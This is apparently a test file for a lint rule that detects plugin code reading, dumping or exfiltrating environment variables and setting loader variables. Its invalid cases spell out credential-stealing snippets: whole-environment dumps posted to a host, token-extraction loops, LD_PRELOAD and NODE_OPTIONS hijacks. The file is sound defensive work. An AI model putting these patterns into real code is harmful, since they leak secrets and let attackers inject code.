import { describe, expect, it } from 'vitest';
import rule from '../../rules/no-process-env.js';
import { capabilityCovers } from '../../rules/utils/manifest.js';
import { allSeverities, commonjs, gateReports, inDeclaredPlugin, ruleTester } from './rule-tester.js';

const read = (messageId: string, line: number, column: number, variable?: string) => ({
  messageId,
  line,
  column,
  ...(variable && { data: { variable } }),
});
const dump = (line: number, column: number, how?: string) => ({ messageId: 'dump', line, column, ...(how && { data: { how } }) });

ruleTester.run('no-process-env', rule, {
  valid: [
    // A harmless variable is only info, below the default minimum of medium.
    'if (process.env.NODE_ENV === "production") run();',
    // Objects and parameters that are not the environment.
    'const config = load(); config.process.env.SECRET_TOKEN; options.env.API_KEY;',
    'function start(env) { return env.API_KEY + env["x"]; } const f = ({ env }) => env.TOKEN;',
    'const process = { env: { TOKEN: 1 } }; process.env.TOKEN; Object.keys(process.env);',
    // Words in strings and comments.
    '// process.env.AWS_SECRET_ACCESS_KEY\nconst s = "JSON.stringify(process.env)";',
    // Using the env object without reading from it, and its methods.
    'const e = process.env; if (process.env) go(); process.env.hasOwnProperty;',
    { code: 'var a=function(e){return e.env.X}({env:{}});', ...commonjs },
    // In the editor, a declared variable is only low.
    { code: 'const dir = process.env.MUSIC_DIR;', ...inDeclaredPlugin },
    // Setting a harmless variable is only info.
    'process.env.NODE_ENV = "production";',
    // Where the system keeps things is no secret (os.homedir() says as much).
    'const dir = path.join(process.env.XDG_CONFIG_HOME || process.env.HOME, "app"); open(dir);',
    // Tests that each ask one fixed question reveal at most a bit, whatever the name.
    'if (process.env.MY_PLUGIN_MODE === "strict") strict();\nswitch (process.env.RELEASE_CHANNEL) { case "beta": case "dev": beta(); }',
    'if (/^v\\d+\\./.test(process.env.RUNTIME_VERSION || "")) modern();\nif ((process.env.SERVICE_KEY || "").startsWith("sk_" + "test_")) sandbox();',
    'const levels = { debug: 0, info: 1 };\nif (levels[process.env.PLUGIN_LOG_LEVEL] > 0) quiet();\nif (process.env.ACCESS_TOKEN?.length > 0) signedIn();',
    // A sloppy object-literal method's `this` is its object while it is only called as a method; strict code, a
    // module and a class never give `this` the global object.
    { code: 'const api = { env() { return this.process.env; }, chain() { return this; } };\napi.chain().env();', ...commonjs },
    { code: '"use strict";\nconst o = { g() { return this.process.env; } };\nconst { g } = o;\n[0].map(o.g);', ...commonjs },
    'const o = { g() { return this.process.env; } };\nconst { g } = o;\nsetTimeout(o.g);',
    { code: 'class A { g() { return this.process.env; } }\nconst { g } = new A();\n[0].map(g);', ...commonjs },
    // A mixin's `this` is whatever object it is mixed into.
    { code: 'exports.snapshot = function () { this.env = {}; return JSON.stringify(this.env); };', ...commonjs },
  ],
  invalid: [
    // Taken off its object, a sloppy method runs with the global object as `this`: `this.process` is `process`.
    { code: 'const probe = { grab() { return this.process.env; } };\nexports.activate = async (ctx) => { const [e] = [0].map(probe.grab); await ctx.net.fetch("https://a.example", { body: JSON.stringify(e) }); };', ...commonjs, errors: [dump(1, 33)] },
    { code: 'const o = { read: function () { const p = this["pro" + "cess"]; return p.env.NPM_TOKEN; } };\nconst { read } = o;\nmodule.exports = read();', ...commonjs, errors: [read('secretRead', 1, 72, 'NPM_TOKEN')] },
    // The method the literal holds is read, so what the call yields is known: the environment handed to send.
    { code: 'const o = { k() { return this.process.env; } };\nsend(o.k.call(null));', ...commonjs, errors: [dump(1, 26), dump(2, 6)] },
    // A capitalised name does not stop an importer calling it bare, nor does handing it to a callback-taker.
    { code: 'module.exports = function Settings() { return JSON.stringify(this.process.env); };', ...commonjs, errors: [dump(1, 62)] },
    { code: 'let g;\n"a".replace(/a/, function () { g = this; });\nsend(JSON.stringify(g.process.env));', ...commonjs, errors: [dump(3, 21)] },
    { code: 'const o = { k() { send(this.process.env); } };\nconst later = o["k"];\nsetTimeout(later, 1);', ...commonjs, errors: [dump(1, 24)] },
    // Exported, a sloppy function may be called bare by the file that requires it: `this.process` is `process` there.
    { code: 'module.exports = function collect() { return JSON.stringify(this.process.env); };', ...commonjs, errors: [dump(1, 61)] },
    { code: 'function collect() { return JSON.stringify(this["pro" + "cess"].env); }\nmodule.exports = { collect };', ...commonjs, errors: [dump(1, 44)] },
    // Single reads whose value goes somewhere: info for harmless names, high for secret-looking ones, medium otherwise.
    { code: 'use(process.env.NODE_ENV);', ...allSeverities, errors: [read('harmlessRead', 1, 5, 'NODE_ENV')] },
    { code: 'const t = process.env.GITHUB_TOKEN; send(t);', errors: [read('secretRead', 1, 11, 'GITHUB_TOKEN')] },
    { code: 'const dir = process.env.MUSIC_DIR; open(dir);', errors: [read('read', 1, 13, 'MUSIC_DIR')] },
    // A value that only decides a condition reveals nothing, whatever the name: info.
    {
      code: 'if (process.env.LOG_TOKENS) log();\nconst v = Number.parseInt((process.env.APP_VERSION || "").split(".")[0], 10); if (v >= 3) up();\nswitch (process.env.SECRET_MODE) { case "a": break; }\n["TRAVIS", "GITLAB_CI"].some((k) => k in process.env);',
      ...allSeverities,
      errors: [read('testedRead', 1, 5, 'LOG_TOKENS'), read('testedRead', 2, 28, 'APP_VERSION'), read('testedRead', 3, 9, 'SECRET_MODE'), read('testedRead', 4, 37, '…')],
    },
    { code: 'const { CI_TOKEN } = process.env;\nif (!CI_TOKEN) skip();', ...allSeverities, errors: [read('testedRead', 1, 9, 'CI_TOKEN')] },
    // …but a tested name whose value also flows on is a read.
    { code: 'const k = process.env.API_KEY;\nif (k) send(k);', errors: [read('secretRead', 1, 11, 'API_KEY')] },
    // Declaring one variable does not cover another, nor the whole environment.
    { code: 'use(process.env.MUSIC_DIR, process.env.MUSIC_TOKEN, Object.values(process.env));', ...inDeclaredPlugin, errors: [read('secretRead', 1, 28, 'MUSIC_TOKEN'), dump(1, 67)] },
    // Disguised roads to the same variable.
    { code: 'send(globalThis.process.env["AWS_" + "SECRET_ACCESS_KEY"]);', errors: [read('secretRead', 1, 6, 'AWS_SECRET_ACCESS_KEY')] },
    { code: 'const e = process.env;\nsend(e.NPM_TOKEN);', errors: [read('secretRead', 2, 6, 'NPM_TOKEN')] },
    { code: 'const { env } = process;\nsend(env[atob("UEFTU1dPUkQ=")]);', errors: [read('secretRead', 2, 6, 'PASSWORD')] },
    { code: 'import { env } from "node:process";\nexport const pw = env.DB_PASSWORD;', errors: [read('secretRead', 2, 19, 'DB_PASSWORD')] },
    // A dynamic import of process, awaited or through then, and its default export, are process too.
    {
      code: 'const { env } = await import("node:process");\nconst m = await import("process");\nsend(env.NPM_TOKEN, m.default.env.GITHUB_TOKEN);\nimport("node:process").then((p) => send(p.env.API_KEY));',
      errors: [read('secretRead', 3, 6, 'NPM_TOKEN'), read('secretRead', 3, 21, 'GITHUB_TOKEN'), read('secretRead', 4, 41, 'API_KEY')],
    },
    { code: 'const p = require("process");\nlog(p.env.SHELL);', ...commonjs, errors: [read('read', 2, 5, 'SHELL')] },
    { code: 'import proc from "process"; const v = proc["env"].SESSION_ID;', errors: [read('secretRead', 1, 39, 'SESSION_ID')] },
    { code: 'send(window.process.env.STRIPE_KEY as string);', filename: 'a.ts', errors: [read('secretRead', 1, 6, 'STRIPE_KEY')] },
    // Destructuring: each name is a read, a rest element is a dump.
    {
      code: 'const { AWS_ACCESS_KEY_ID, MUSIC_DIR: dir, ["NODE" + "_ENV"]: mode, ...others } = process.env;',
      ...allSeverities,
      errors: [read('secretRead', 1, 9, 'AWS_ACCESS_KEY_ID'), read('read', 1, 28, 'MUSIC_DIR'), read('harmlessRead', 1, 44, 'NODE_ENV'), dump(1, 69, 'a rest element of a destructuring')],
    },
    { code: 'const { env: { SECRET } } = process;', errors: [read('secretRead', 1, 16, 'SECRET')] },
    { code: 'function connect({ DB_URL } = process.env) {}', errors: [read('read', 1, 20, 'DB_URL')] },
    // Presence tests name the variable too, and reveal only whether it is set.
    { code: '"OPENAI_API_KEY" in process.env;\nObject.hasOwn(process.env, "SLACK_TOKEN");', ...allSeverities, errors: [read('testedRead', 1, 1, 'OPENAI_API_KEY'), read('testedRead', 2, 1, 'SLACK_TOKEN')] },
    {
      code: 'process.env.hasOwnProperty("A_TOKEN");\nObject.prototype.hasOwnProperty.call(process.env, "B_TOKEN");\nsend(Reflect.get(process.env, "C_" + "TOKEN"));',
      ...allSeverities,
      errors: [read('testedRead', 1, 1, 'A_TOKEN'), read('testedRead', 2, 1, 'B_TOKEN'), read('secretRead', 3, 6, 'C_TOKEN')],
    },
    // Writes.
    { code: 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";', errors: [read('write', 1, 1, 'NODE_TLS_REJECT_UNAUTHORIZED')] },
    // A loader variable set in the process's environment: every program started after it loads what it names.
    { code: 'const lib = require("path").join(ctx.dataDir, "libhook.so");\nprocess.env["LD_" + "PRELOAD"] = lib;', errors: [read('nativeLoaderWrite', 2, 1, 'LD_PRELOAD')] },
    { code: 'const { env } = process;\nenv.NODE_OPTIONS = "--import=data:text/javascript,1";\nenv.BASH_ENV = "/tmp/x";\nenv.GIT_SSH_COMMAND = cmd;', errors: [read('loaderWrite', 2, 1, 'NODE_OPTIONS'), read('loaderWrite', 3, 1, 'BASH_ENV'), read('loaderWrite', 4, 1, 'GIT_SSH_COMMAND')] },
    // A PATH that puts the data folder or a temporary folder first: any program run by name later may be the plugin's.
    { code: 'exports.activate = (ctx) => { process.env.PATH = ctx.dataDir + require("path").delimiter + process.env.PATH; };', errors: [read('loaderWrite', 1, 31, 'PATH'), read('read', 1, 92, 'PATH')] },
    { code: 'const { env } = process;\nenv["PA" + "TH"] = `/tmp/.bin:${env.PATH}`;', errors: [read('loaderWrite', 2, 1, 'PATH'), read('read', 2, 33, 'PATH')] },
    // Look-alike: appending a system folder to the inherited PATH.
    { code: 'process.env.PATH = process.env.PATH + ":/usr/local/bin";', errors: [read('write', 1, 1, 'PATH'), read('read', 1, 20, 'PATH')] },
    // Look-alikes: the same variables set to plain settings are ordinary writes.
    { code: 'process.env.NODE_OPTIONS = "--max-old-space-size=4096";\nprocess.env.GIT_PAGER = "cat";\nprocess.env.LD_LIBRARY_PATH = "/opt/tool/lib";', errors: [read('write', 1, 1, 'NODE_OPTIONS'), read('write', 2, 1, 'GIT_PAGER'), read('write', 3, 1, 'LD_LIBRARY_PATH')] },
    // Set through Object.assign, Reflect.set or a descriptor: the same writes.
    {
      code: 'Object.assign(process.env, { LD_PRELOAD: lib, ["NODE_" + "OPTIONS"]: "-r " + hook, GIT_PAGER: "cat" });\nReflect.set(process.env, "BASH_ENV", file);\nObject.defineProperty(process.env, "LD_AUDIT", { value: lib });\nObject.assign(process.env, parsed);',
      errors: [read('nativeLoaderWrite', 1, 30, 'LD_PRELOAD'), read('loaderWrite', 1, 47, 'NODE_OPTIONS'), read('write', 1, 84, 'GIT_PAGER'), read('loaderWrite', 2, 1, 'BASH_ENV'), read('nativeLoaderWrite', 3, 1, 'LD_AUDIT'), read('write', 4, 28, '…')],
    },
    // The variable's own value kept, with a loader added (or any other value as a fallback), still loads it.
    {
      code: 'process.env.NODE_OPTIONS = `${process.env.NODE_OPTIONS || ""} --require ${hook}`.trim();\nprocess.env.NODE_OPTIONS += " --import=data:text/javascript,1";\nprocess.env.NODE_OPTIONS = process.env.NODE_OPTIONS || opts;',
      errors: [read('loaderWrite', 1, 1, 'NODE_OPTIONS'), read('read', 1, 31), read('loaderWrite', 2, 1, 'NODE_OPTIONS'), read('loaderWrite', 3, 1, 'NODE_OPTIONS'), read('read', 3, 28)],
    },
    // Look-alike: a heap flag appended to the value the process already had adds no loader.
    {
      code: 'process.env.NODE_OPTIONS = `${process.env.NODE_OPTIONS ?? ""} --max-old-space-size=8192`.trim();\nprocess.env.NODE_OPTIONS += " --enable-source-maps";',
      errors: [read('write', 1, 1, 'NODE_OPTIONS'), read('read', 1, 31), read('write', 2, 1, 'NODE_OPTIONS')],
    },
    { code: 'delete process.env.DEBUG;', ...allSeverities, errors: [read('harmlessWrite', 1, 8, 'DEBUG')] },
    // A computed name that cannot be folded.
    { code: 'function get(name) { return process.env[name]; }', errors: [{ messageId: 'dynamicRead', line: 1, column: 29 }] },
    // The whole environment, every way.
    { code: 'fetchLater(JSON.stringify(process.env));', errors: [dump(1, 27, 'passed to JSON.stringify')] },
    { code: 'const all = { ...process.env };', errors: [dump(1, 18, 'spread')] },
    { code: 'Object.entries(process["env"]);', errors: [dump(1, 16, 'passed to Object.entries')] },
    // Names only: medium; the values of a harmless prefix, read as `debug` reads its options: medium.
    { code: 'Object.keys(globalThis.process.env);\nconst e = process.env;\nfor (const k in e) log(k);', errors: [{ messageId: 'names', line: 1, column: 1, data: { how: 'Object.keys' } }, { messageId: 'names', line: 3, column: 17, data: { how: 'for…in' } }] },
    {
      code: 'const opts = Object.keys(process.env).filter((key) => /^debug_/i.test(key)).reduce((obj, key) => { obj[key] = process.env[key]; return obj; }, {});',
      errors: [{ messageId: 'names', line: 1, column: 14 }, { messageId: 'harmlessPrefixRead', line: 1, column: 111, data: { prefix: 'debug_' } }],
    },
    // The values of any other prefix are high: npm keeps the registry token in npm_config_*.
    {
      code: 'const out = {};\nObject.keys(process.env).filter((k) => /^npm_config_/i.test(k)).forEach((k) => { out[k] = process.env[k]; });',
      errors: [{ messageId: 'names', line: 2, column: 1 }, { messageId: 'prefixRead', line: 2, column: 91, data: { prefix: 'npm_config_' } }],
    },
    {
      code: 'const pre = "AW" + "S_";\nfor (const name of Object.getOwnPropertyNames(process.env).filter((n) => n.startsWith(pre))) send(name, process.env[name]);',
      errors: [{ messageId: 'names', line: 2, column: 20 }, { messageId: 'prefixRead', line: 2, column: 105, data: { prefix: 'AWS_' } }],
    },
    // A pattern that is more than a prefix takes other names too: an unknown name.
    {
      code: 'for (const k of Object.keys(process.env).filter((k) => /^debug_|tok/i.test(k))) send(process.env[k]);',
      errors: [{ messageId: 'names', line: 1, column: 17 }, { messageId: 'dynamicRead', line: 1, column: 86 }],
    },
    // The list is of harmless names, not of secret ones: a name on neither list whose value leaves is high.
    { code: 'post({ body: String(process.env.CI_JOB_JWT) });\nsend(process.env["DEPLOY_" + "PASS"]);', errors: [read('secretRead', 1, 21, 'CI_JOB_JWT'), read('secretRead', 2, 6, 'DEPLOY_PASS')] },
    // Wallet and database secrets under names without TOKEN or KEY; the working directory is no secret.
    {
      code: 'const { MNEMONIC, DEPLOYER_PK } = process.env;\nsend(MNEMONIC, DEPLOYER_PK, process.env.MYSQL_PWD, process.env.SMTP_PASS, process.env.MONGODB_URI, process.env.PWD);',
      errors: [read('secretRead', 1, 9, 'MNEMONIC'), read('secretRead', 1, 19, 'DEPLOYER_PK'), read('secretRead', 2, 29, 'MYSQL_PWD'), read('secretRead', 2, 52, 'SMTP_PASS'), read('secretRead', 2, 75, 'MONGODB_URI'), read('read', 2, 100, 'PWD')],
    },
    { code: 'const { VAULT_ADDR: where, BUILDKITE_AGENT_ACCESS_KEY: k } = process.env;\nsend(where, k);', errors: [read('read', 1, 9, 'VAULT_ADDR'), read('secretRead', 1, 28, 'BUILDKITE_AGENT_ACCESS_KEY')] },
    // A test asking many questions spells the value out: against a varying value, of a varying piece, or in a loop.
    {
      code: 'const t = process.env.NPM_TOKEN || "";\nlet out = "";\nfor (let i = 0; i < 64; i++) for (const c of ALPHABET) if (t[i] === c) out += c;\nsend(out);',
      errors: [read('secretRead', 1, 11, 'NPM_TOKEN')],
    },
    {
      code: 'let known = "";\nfor (let n = 0; n < 40; n++) for (const c of CHARS) if ((process.env.GITHUB_TOKEN || "").startsWith(known + c)) { known += c; break; }',
      errors: [read('secretRead', 2, 58, 'GITHUB_TOKEN')],
    },
    {
      code: 'const v = process.env.SESSION_ID;\nconst bits = [];\nfor (let i = 0; i < 32; i++) bits.push(v.charCodeAt(i) > 77 ? 1 : 0);',
      errors: [read('secretRead', 1, 11, 'SESSION_ID')],
    },
    {
      code: 'const s = process.env.MY_APP_PW;\nconst guess = [...Array(30)].map((_, i) => CHARS.find((c) => s[i] === c));',
      errors: [read('read', 1, 11, 'MY_APP_PW')],
    },
    {
      code: 'const re = /[a-f]/g;\nconst v = process.env.API_SECRET;\nwhile (re.test(v)) count++;',
      errors: [read('secretRead', 2, 11, 'API_SECRET')],
    },
    {
      code: 'function probe(x) { return process.env.DB_PASSWORD === x; }\nswitch (process.env.SIGNING_KEY) { case guess: hit(); }',
      errors: [read('secretRead', 1, 28, 'DB_PASSWORD'), read('secretRead', 2, 9, 'SIGNING_KEY')],
    },
    { code: 'import { env } from "process";\nObject.assign(target, env);', errors: [dump(2, 23, 'passed to Object.assign')] },
    { code: 'export const snapshot = () => process.env;\nfunction all() { return process.env; }', errors: [dump(1, 31, 'returned'), dump(2, 25, 'returned')] },
    { code: 'module.exports.env = process.env;', ...commonjs, errors: [dump(1, 22, 'stored in another object')] },
    { code: 'report({ env: process.env });', errors: [dump(1, 15, 'stored in an object')] },
    { code: 'function send(x) {}\nsend(process.env);\nthis.client.post(process.env);', errors: [dump(2, 6, 'passed to send'), dump(3, 18, 'passed to this.client.post')] },
  ],
});

describe('what the gate receives', () => {
  const declared = { env: ['MUSIC_DIR', 'GITHUB_TOKEN'] };

  it('names the variable of a single read, so a declaration covers exactly that variable', () => {
    const [music, token, other] = gateReports('no-process-env', rule, 'send(process.env.MUSIC_DIR, process.env.GITHUB_TOKEN, process.env.NPM_TOKEN);');
    expect([music.data.variable, token.data.variable, other.data.variable]).toEqual(['MUSIC_DIR', 'GITHUB_TOKEN', 'NPM_TOKEN']);
    expect([music, token, other].map((r) => capabilityCovers(declared, 'env', r.data))).toEqual([true, true, false]);
  });

  it('judges a value that leaves by its name: secret-looking high, off the harmless list medium, on it info', () => {
    const reports = gateReports('no-process-env', rule, 'send(process.env.CI_JOB_JWT, process.env.PATH, process.env.__LIB_TESTING_PLATFORM__, process.env.NODE_ENV);');
    expect(reports.map((r) => `${r.data.variable} ${r.kind.severity}`)).toEqual(['CI_JOB_JWT high', 'PATH medium', '__LIB_TESTING_PLATFORM__ medium', 'NODE_ENV info']);
  });

  it('gives whole-environment access and unknown names no variable, so no declaration covers them', () => {
    const reports = gateReports('no-process-env', rule, 'send({ ...process.env }); const { ...all } = process.env; send(process.env[key]);');
    expect(reports.map((r) => r.messageId)).toEqual(['dump', 'dump', 'dynamicRead']);
    for (const r of reports) {
      expect(r.data).not.toHaveProperty('variable');
      expect(capabilityCovers(declared, 'env', r.data)).toBe(false);
      expect(r.kind.severity).toBe('high');
    }
  });
});
